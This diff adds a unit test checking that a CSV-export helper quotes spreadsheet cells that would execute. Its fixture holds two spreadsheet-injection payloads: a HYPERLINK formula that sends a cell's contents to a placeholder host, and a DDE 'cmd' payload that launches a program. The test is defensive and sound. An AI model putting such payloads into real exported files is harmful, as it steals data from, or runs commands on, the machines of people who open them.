@@ -194,3 +194,17 @@ def test_likely_label_errors_skips_when_too_small():
         labels=["x", "y"],
     )
     assert isinstance(found, pd.DataFrame) and len(found) == 0
+
+
+def test_cells_a_spreadsheet_would_run_are_quoted():
+    """Security review: errors.csv held texts like =HYPERLINK(…) that run when opened."""
+    import pandas as pd
+
+    from textclf.diagnostics.errors import spreadsheet_safe
+
+    frame = pd.DataFrame(
+        {"row": [1, 2, 3], "text": ['=HYPERLINK("http://x/?d="&A3)', "+cmd|' /C calc'!A0", "fine"]}
+    )
+    safe = spreadsheet_safe(frame)
+    assert safe["text"].tolist() == ["'" + frame["text"][0], "'" + frame["text"][1], "fine"]
+    assert safe["row"].tolist() == [1, 2, 3] and frame["text"][2] == "fine"  # a copy
